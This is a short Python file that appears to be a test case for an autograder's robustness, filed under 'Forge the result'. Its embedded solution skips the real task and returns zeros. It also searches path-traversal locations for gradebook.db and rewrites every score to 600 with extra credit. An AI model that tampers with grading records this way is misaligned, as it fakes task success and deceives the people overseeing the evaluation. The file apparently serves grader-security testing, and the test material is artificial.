"""The gradebook is opened and every score set to six hundred, with extra credit."""

CATEGORY = "Forge the result"
POINTS = 0
STOCK = "alone"
SOLUTION = """
import sqlite3

for path in ('../../../gradebook.db', '../../gradebook.db', '/gradebook.db', 'gradebook.db'):
    try:
        base = sqlite3.connect(f'file:{path}?mode=rw', uri=True)
        base.execute("update grade set auto_score = 600, extra_credit = 194")
        base.execute("update base_cell set name = name")
        base.commit()
    except sqlite3.Error as error:
        print(type(error).__name__)
def center(X):
    return X * 0
"""
